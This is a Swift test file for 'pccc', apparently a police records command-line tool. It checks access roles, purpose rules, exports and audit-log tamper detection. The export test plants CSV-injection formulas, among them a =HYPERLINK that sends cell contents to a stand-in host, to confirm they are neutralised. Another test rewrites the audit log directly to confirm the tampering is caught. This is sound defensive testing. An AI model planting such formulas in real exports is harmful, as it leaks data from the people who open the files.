import Foundation
import GRDB
import Replica
import TestSupport
import Testing

/// The name of the account the tests run as, which `init` maps to the first admin.
enum OSAccountName {
    static var current: String {
        if let entry = getpwuid(geteuid()), let name = entry.pointee.pw_name { return String(cString: name) }
        return "uid-\(geteuid())"
    }
}

/// The staff commands through the real `pccc` executable on a real node folder.
@Suite(.ownThread) struct StaffCommandTests {
    struct Node {
        let directory: TemporaryDirectory
        let data: String

        init() throws {
            directory = try TemporaryDirectory()
            let topology = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
                .appendingPathComponent("Topology/sample-region.yaml").path
            data = directory.path("mk")
            let initialised = try PCCCExecutable.run(["init", "--data", data, "--node", "mk-tabanovce", "--topology", topology, "--admin", "ana"])
            guard initialised.status == 0 else { throw TestFailure("init failed: \(initialised.error)") }
        }

        /// Runs a command on this node from the OS account `account` (through sudo's variables;
        /// `ana` is the test's own account, mapped by `init`), with a purpose unless `arguments`
        /// give one (the node's rule asks one at every consultation).
        func run(_ arguments: [String], as account: String = "ana") throws -> PCCCExecutable.Result {
            let purpose = arguments.contains("--purpose") ? [] : ["--purpose", "staff command test"]
            return try PCCCExecutable.run(arguments + ["--data", data] + purpose, environment: account == "ana" ? [:] : PCCCExecutable.sudo(for: account))
        }

        func succeed(_ arguments: [String], as user: String = "ana") throws -> String {
            let result = try run(arguments, as: user)
            guard result.status == 0 else { throw TestFailure("pccc \(arguments.joined(separator: " ")) failed: \(result.error)") }
            return result.output.trimmingCharacters(in: .whitespacesAndNewlines)
        }

        func refusal(_ arguments: [String], as user: String = "ana") throws -> String {
            let result = try run(arguments, as: user)
            guard result.status != 0 else { throw TestFailure("pccc \(arguments.joined(separator: " ")) should have failed") }
            return result.error.trimmingCharacters(in: .whitespacesAndNewlines)
        }
    }

    @Test func theAuditKeyIsMadeWithTheNodeKeptOutsideTheReplicaAndItsLossIsNoticed() throws {
        let node = try Node()
        let keyPath = node.data + "/audit.key"
        let text = try String(contentsOfFile: keyPath, encoding: .utf8)
        #expect(text.hasPrefix("pccc-audit-key 1\nsince 1\nkey "), "a new node seals its whole log: \(text.prefix(30))")
        #expect(try FileManager.default.attributesOfItem(atPath: keyPath)[.posixPermissions] as? Int == 0o600)
        _ = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha"])
        #expect(try node.succeed(["audit", "verify"]).hasPrefix("audit log intact: 2 entries"))
        // Without its key the node cannot vouch for what the key sealed: it does not open
        // rather than make a new key that would take a rewritten log for intact.
        try FileManager.default.removeItem(atPath: keyPath)
        let refused = try node.refusal(["audit", "verify"])
        #expect(
            refused == "Error: \(keyPath) is missing, and the audit log was sealed with it; put the node's audit.key back (docs/AUDIT.md)",
            "\(refused)")
        #expect(!FileManager.default.fileExists(atPath: keyPath), "no new key was made")
    }

    @Test func initMakesTheFirstAdminAndOnlyKnownUsersInTheirRolesAct() throws {
        let node = try Node()
        #expect(
            try node.refusal(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha"], as: "mallory")
                == "Error: the OS account mallory is not mapped to a user of node mk-tabanovce; an admin maps it with pccc users map-account mallory --to USER"
        )
        #expect(try node.succeed(["record", "list", "--json"]) == "[\n\n]")
        #expect(
            try node.succeed(["users", "add", "bob", "--role", "staff", "--os-account", "bob"]) == "added bob as staff at node mk-tabanovce, as OS account bob")
        #expect(try node.refusal(["users", "add", "bob", "--role", "staff"]) == "Error: user bob already exists at this node")
        #expect(try node.refusal(["users", "add", "carl", "--role", "boss"]) == "Error: --role must be staff or admin, not boss")
        #expect(
            try node.refusal(["users", "add", "Carl Smith", "--role", "staff"])
                == "Error: user name Carl Smith must be 1 to 64 lowercase letters, digits, '.', '_' or '-', starting with a letter or digit"
        )
        let staffOnly = "Error: bob is staff at node mk-tabanovce, and only an admin may do this"
        #expect(try node.refusal(["users", "add", "carl", "--role", "staff"], as: "bob") == staffOnly)
        #expect(try node.refusal(["audit", "list"], as: "bob") == staffOnly)
        #expect(try node.refusal(["audit", "verify"], as: "bob") == staffOnly)
        let id = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha"], as: "bob")
        let users = try node.succeed(["users", "list"], as: "bob")
        #expect(users.contains("ana  admin") && users.contains("bob  staff"))
        let note = try node.succeed(["note", "add", id, "--text", "seen at the border"], as: "bob")
        let shown = try node.succeed(["record", "show", id, "--json"], as: "bob")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(shown.utf8)) as? [String: Any])
        let notes = try #require(object["notes"] as? [[String: Any]])
        #expect(notes.map { $0["id"] as? String } == [note])
        #expect((notes.first?["fields"] as? [String: [String: Any]])?["author"]?["value"] as? String == "bob")
    }

    @Test func anOSAccountActsOnlyAsTheUserAnAdminMappedItTo() throws {
        let node = try Node()
        let own = OSAccountName.current
        // No option names the user: the command line cannot claim to be someone else.
        let claimed = try PCCCExecutable.run(
            ["record", "list", "--data", node.data, "--user", "ana", "--purpose", "test"], environment: PCCCExecutable.sudo(for: "bob"))
        #expect(claimed.status != 0 && claimed.error.contains("Unknown option '--user'"), "\(claimed.error)")
        #expect(try node.succeed(["users", "list"]).contains("ana  admin  added"), "the first admin is listed")
        #expect(try node.succeed(["users", "list"]).contains("OS account \(own)"), "init mapped its own account to the first admin")

        _ = try node.succeed(["users", "add", "bob", "--role", "staff"])
        let unmapped = "Error: the OS account bob is not mapped to a user of node mk-tabanovce; an admin maps it with pccc users map-account bob --to USER"
        #expect(try node.refusal(["record", "list"], as: "bob") == unmapped)
        #expect(try node.refusal(["users", "map-account", "bob", "--to", "bob"], as: "bob") == unmapped)
        #expect(try node.refusal(["users", "map-account", "bob smith", "--to", "bob"]).hasPrefix("Error: an OS account name is 1 to 64"))
        #expect(
            try node.refusal(["users", "map-account", own, "--to", "bob"])
                == "Error: the OS account \(own) is mapped to ana; unmap it first with pccc users unmap-account \(own)")
        #expect(try node.succeed(["users", "map-account", "bob", "--to", "bob"]) == "mapped OS account bob to bob at node mk-tabanovce")
        let id = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha"], as: "bob")
        #expect(
            try node.refusal(["users", "map-account", "mallory", "--to", "ana"], as: "bob")
                == "Error: bob is staff at node mk-tabanovce, and only an admin may do this")
        // The commands that copy or change the whole node bypass the log: through sudo, only an
        // admin of the node runs them.
        let copy = node.directory.path("copy.sqlite")
        let whole: [([String], String)] = [
            (["backup", "--data", node.data, "--out", copy], "Error: only an admin of node \(node.data) may back it up through sudo: bob is staff"),
            (["pull", "--data", node.data, "--from", node.data], "Error: only an admin of node \(node.data) may read its batches through sudo: bob is staff"),
            (["keys", "rotate", "--data", node.data], "Error: only an admin of node \(node.data) may rotate its signing key through sudo: bob is staff"),
            (["restore", copy, "--data", node.directory.path("elsewhere")], "Error: pccc restore is run as the node folder's owner or root, not through sudo"),
        ]
        for (arguments, refusal) in whole {
            let refused = try PCCCExecutable.run(arguments, environment: PCCCExecutable.sudo(for: "bob"))
            #expect(refused.status != 0 && refused.error.hasPrefix(refusal), "pccc \(arguments.joined(separator: " ")): \(refused.error)")
        }
        #expect(!FileManager.default.fileExists(atPath: copy), "bob's refused backup wrote a file")

        // The last admin with an account keeps it. Another admin there, one who unmaps their own
        // account is back in only through the folder's owner, acting as itself, not through sudo
        // for someone else.
        #expect(
            try node.refusal(["users", "unmap-account", own]) == "Error: ana is the last enabled admin with an OS account; map another admin's account first")
        _ = try node.succeed(["users", "add", "dora", "--role", "admin", "--os-account", "dora"])
        #expect(try node.succeed(["users", "unmap-account", own]) == "unmapped OS account \(own) at node mk-tabanovce")
        #expect(try node.refusal(["record", "list"]).hasPrefix("Error: the OS account \(own) is not mapped"))
        #expect(try node.refusal(["users", "map-account", "mallory", "--to", "ana"], as: "mallory").hasPrefix("Error: the OS account mallory is not mapped"))
        #expect(try node.succeed(["users", "map-account", own, "--to", "ana"]) == "mapped OS account \(own) to ana at node mk-tabanovce")
        let audited = try node.succeed(["audit", "list", "--limit", "50"])
        for line in ["ana  account_map", "\(own) (folder owner)  account_map", "ana  account_unmap", "bob  create"] {
            #expect(audited.contains(line), "\(line) is not in the log: \(audited)")
        }
        #expect(try node.succeed(["record", "show", id]).contains("Hoxha"))
    }

    @Test func consultationsNeedThePurposeTheAdminsRuleAsks() throws {
        let node = try Node()
        _ = try node.succeed(["users", "add", "bob", "--role", "staff", "--os-account", "bob"])
        let id = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha"], as: "bob")
        #expect(try node.succeed(["purposes", "show"], as: "bob") == "purpose: free-text")
        let unexplained = try PCCCExecutable.run(["record", "show", id, "--data", node.data], environment: PCCCExecutable.sudo(for: "bob"))
        #expect(unexplained.status != 0 && unexplained.output.isEmpty, "record show printed a record without a purpose: \(unexplained.output)")
        #expect(
            unexplained.error.trimmingCharacters(in: .whitespacesAndNewlines)
                == "Error: this node requires a purpose of at least 3 characters, such as a case number, for every consultation, search, listing and export")
        #expect(try node.succeed(["record", "show", id, "--purpose", "hand-over 9"], as: "bob").contains("Hoxha"))

        #expect(try node.refusal(["purposes", "require", "none"], as: "bob") == "Error: bob is staff at node mk-tabanovce, and only an admin may do this")
        #expect(try node.refusal(["purposes", "require", "strict"]) == "Error: the rule must be free-text, case-number or none, not strict")
        #expect(
            try node.refusal(["purposes", "add-case", "two words"])
                == "Error: a case number is 1 to 64 letters, digits, '/', '-', '.' or '_', starting with a letter or digit, not two words")
        #expect(try node.succeed(["purposes", "add-case", "KU-2026/17"]) == "listed case KU-2026/17 at node mk-tabanovce")
        #expect(try node.refusal(["purposes", "add-case", "KU-2026/17"]) == "Error: case number KU-2026/17 is already listed at this node")
        #expect(try node.succeed(["purposes", "require", "case-number"]) == "node mk-tabanovce now requires purpose: case-number")
        #expect(try node.succeed(["purposes", "show"], as: "bob") == "purpose: case-number\ncase KU-2026/17")
        #expect(
            try node.refusal(["search", "Hoxha", "--purpose", "hand-over 9"], as: "bob")
                == "Error: the purpose must start with one of this node's case numbers (pccc purposes show lists them), and hand-over is not one")
        #expect(try node.succeed(["search", "Hoxha", "--purpose", "KU-2026/17 border check"], as: "bob").contains(id))
        #expect(try node.refusal(["purposes", "remove-case", "KU-2026/18"]) == "Error: case number KU-2026/18 is not listed at this node")
        _ = try node.succeed(["purposes", "remove-case", "KU-2026/17"])
        #expect(try node.refusal(["search", "Hoxha", "--purpose", "KU-2026/17"], as: "bob").hasPrefix("Error: the purpose must start with one of"))
        // Reading the log is a consultation too: with no case listed, not even the admin reads it
        // until the rule changes.
        #expect(try node.refusal(["audit", "list"]).hasPrefix("Error: the purpose must start with one of"))
        _ = try node.succeed(["purposes", "require", "free-text"])
        let audited = try node.succeed(["audit", "list", "--limit", "50"])
        for line in ["case_add", "purpose_rule", "case_remove"] { #expect(audited.contains("ana  \(line)"), "\(line) is not in the log: \(audited)") }
    }

    @Test func listFiltersAndRefusesFiltersThatCannotMatch() throws {
        let node = try Node()
        let wanted = try node.succeed([
            "record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Hoxha", "--set", "alert=wanted",
        ])
        let other = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "mk-rs", "--set", "family_name=Petrović"])
        let car = try node.succeed(["record", "add", "vehicle", "--group", "region", "--set", "plate=SK 123 AB", "--set", "alert=stolen"])
        func listed(_ filters: [String]) throws -> [String] {
            let output = try node.succeed(["record", "list", "--json"] + filters)
            let rows = try #require(try JSONSerialization.jsonObject(with: Data(output.utf8)) as? [[String: Any]])
            return rows.compactMap { $0["id"] as? String }
        }
        #expect(Set(try listed([])) == [wanted, other, car])
        #expect(try listed(["--alert", "wanted"]) == [wanted])
        #expect(try listed(["--alert", "stolen"]) == [car])
        #expect(try listed(["--group", "mk-rs"]) == [other])
        #expect(Set(try listed(["--kind", "person"])) == [wanted, other])
        #expect(try listed(["--origin", "rs-presevo"]).isEmpty)
        #expect(Set(try listed(["--changed-since", "2000-01-01"])) == [wanted, other, car])
        #expect(try listed(["--changed-since", "2999-01-01T00:00:00Z"]).isEmpty)
        #expect(
            try node.refusal(["record", "list", "--changed-since", "yesterday"])
                == "Error: --changed-since must be a date (2026-11-22) or a time (2026-11-22T08:00:00Z), not yesterday"
        )
        #expect(
            try node.refusal(["record", "list", "--kind", "document", "--alert", "wanted"])
                == "Error: a document has no alert field; only persons, vehicles, objects have one"
        )
        #expect(
            try node.refusal(["record", "list", "--alert", "lost"])
                == "Error: alert cannot be lost; allowed values are missing, none, stolen, suspect, wanted"
        )
        #expect(
            try node.refusal(["record", "list", "--kind", "hit"])
                == "Error: --kind must be person, vehicle, document, firearm, request, organisation, object or link, not hit")
        #expect(
            try node.refusal(["record", "add", "request", "--group", "region"])
                == "Error: requests are made with pccc request new, which sets the sender and the status"
        )
    }

    @Test func exportWritesEveryRecordOfTheGroupAsCSVOrJSONAndIsAudited() throws {
        let node = try Node()
        let tricky = try node.succeed([
            "record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=O\"Brien, Jr", "--set", "aliases=a\nb",
        ])
        let plain = try node.succeed(["record", "add", "vehicle", "--group", "region", "--set", "plate=SK 123 AB"])
        _ = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "mk-rs", "--set", "family_name=Elsewhere"])
        // Cells a spreadsheet would evaluate (OWASP's CSV injection).
        let formulas = [
            "family_name": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")", "given_name": "+1+1", "birth_place": "@SUM(A1:A9)",
            "reason": "-2+3",
        ]
        let formulaRecord = try node.succeed(
            ["record", "add", "person", "--set", "category=suspect", "--group", "region"]
                + formulas.sorted(by: { $0.key < $1.key }).flatMap { ["--set", "\($0.key)=\($0.value)"] })
        let csv = try node.succeed(["record", "export", "--group", "region", "--format", "csv"])
        #expect(csv.contains("\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"open\"\")\""), "a formula is written as text")
        for text in ["'+1+1", "'@SUM(A1:A9)", "'-2+3"] {
            #expect(csv.contains(",\(text),") || csv.contains(",\(text)\r\n"), "\(text) is not in \(csv)")
        }
        for value in formulas.values {
            #expect(!csv.contains("," + value), "\(value) reached the CSV as a formula")
        }
        let json = try node.succeed(["record", "export", "--group", "region", "--format", "json"])
        let exported = try #require(try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [[String: Any]])
        let formulaFields = try #require(exported.first { $0["id"] as? String == formulaRecord }?["fields"] as? [String: String])
        #expect(formulas.allSatisfy { formulaFields[$0.key] == $0.value }, "JSON export keeps every value as it is")
        let lines = csv.components(separatedBy: "\r\n")
        #expect(lines.first?.hasPrefix("kind,id,group,origin,created_at,family_name,given_name") == true)
        #expect(csv.contains("person,\(tricky),region,mk-tabanovce,"))
        #expect(csv.contains("\"O\"\"Brien, Jr\""), "quotes doubled and the cell quoted")
        #expect(csv.contains("\"a\nb\""), "a line break stays inside a quoted cell")
        #expect(csv.contains("vehicle,\(plain),region"))
        #expect(!csv.contains("Elsewhere"))

        let out = node.directory.path("region.json")
        let written = try node.run(["record", "export", "--group", "region", "--format", "json", "--out", out, "--purpose", "hand-over 17"])
        #expect(written.status == 0 && written.error.contains("exported 3 records of group region to \(out)"))
        let attributes = try FileManager.default.attributesOfItem(atPath: out)
        #expect((attributes[.posixPermissions] as? NSNumber)?.intValue == 0o600)
        let records = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: out))) as? [[String: Any]])
        #expect(Set(records.compactMap { $0["id"] as? String }) == [tricky, plain, formulaRecord])
        #expect(
            try node.refusal(["record", "export", "--group", "region", "--format", "json", "--out", out]) == "Error: \(out) already exists; choose a new file")
        #expect(try node.refusal(["record", "export", "--group", "region", "--format", "xml"]) == "Error: --format must be json or csv, not xml")
        #expect(
            try node.refusal(["record", "export", "--group", "nowhere", "--format", "csv"])
                == "Error: node mk-tabanovce is not a member of group nowhere, so it holds nothing of it"
        )
        let audit = try node.succeed(["audit", "list", "--json"])
        let entries = try #require(try JSONSerialization.jsonObject(with: Data(audit.utf8)) as? [[String: Any]])
        let exports = entries.filter { $0["action"] as? String == "export" }
        #expect(exports.count == 3, "the CSV, the JSON on stdout and the JSON file")
        #expect(exports.last?["purpose"] as? String == "hand-over 17")
        #expect(Set(try #require(exports.last?["records"] as? [String])) == [tricky, plain, formulaRecord])
    }

    @Test func auditVerifyNamesTheEditedEntryAndExitsNonZero() throws {
        let node = try Node()
        let id = try node.succeed(["record", "add", "person", "--set", "category=suspect", "--group", "region", "--set", "family_name=Krasniqi"])
        _ = try node.succeed(["record", "show", id, "--purpose", "check at gate 3"])
        _ = try node.succeed(["search", "krasniqi"])
        #expect(try node.succeed(["audit", "verify"]) == "audit log intact: 4 entries, each sealed and chained to the one before")
        let listed = try node.succeed(["audit", "list"])
        #expect(listed.contains("ana  consult  [\(id)]  purpose: check at gate 3"))
        #expect(listed.contains("ana  search  krasniqi  [\(id)]"))

        let queue = try DatabaseQueue(path: node.directory.path("mk/replica.sqlite"), configuration: SQLiteLibrary.configuration())
        try queue.write { db in
            try db.execute(sql: "DROP TRIGGER audit_log_no_update")
            try db.execute(sql: "UPDATE audit_log SET user = 'someone-else' WHERE action = 'consult'")
        }
        #expect(
            try node.refusal(["audit", "verify"])
                == "Error: audit log broken: entry 3 was altered or rewritten: it is not sealed with the node's audit key")
    }
}
